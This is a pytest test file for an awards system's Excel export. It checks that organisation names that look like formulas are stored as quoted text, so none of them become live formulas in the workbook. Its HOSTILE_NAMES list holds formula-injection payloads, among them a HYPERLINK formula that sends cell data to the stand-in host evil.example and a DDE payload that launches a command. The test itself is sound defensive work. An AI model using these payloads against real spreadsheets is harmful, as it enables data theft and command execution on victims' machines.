"""Excel exports (awards.domain.export): every value that came from a user is text, never a live formula."""

import datetime
import zipfile
from io import BytesIO

import pytest
from openpyxl import load_workbook

from .. import factories
from ..builders.intake import SUBMIT_DAY
from ..builders.journeys import travel

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
                 "=1+1"]


@pytest.fixture(autouse=True)
def no_otp(settings):
    settings.OTP_ENFORCED = False


def test_names_that_look_like_formulas_are_written_as_text(client, ordos):
    with travel(SUBMIT_DAY):
        for name in HOSTILE_NAMES:
            ordos.application(organisation=factories.OrganisationFactory(city=ordos.cycle.city, name=name))
    client.force_login(ordos.cast.office)
    with travel(datetime.date(2026, 9, 16)):
        response = client.get("/office/ordos/queue/eligibility/export/")
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    names = {}
    for row in sheet.iter_rows(min_row=2):
        cell = row[1]
        names[cell.value] = cell
    assert set(names) == set(HOSTILE_NAMES)
    for cell in names.values():
        assert cell.data_type == "s" and cell.quotePrefix, cell.value
    # no formula element anywhere in the sheet's XML
    with zipfile.ZipFile(BytesIO(response.content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    # an ordinary value is untouched
    header = sheet["A1"]
    assert header.value == "申报编号" and not header.quotePrefix
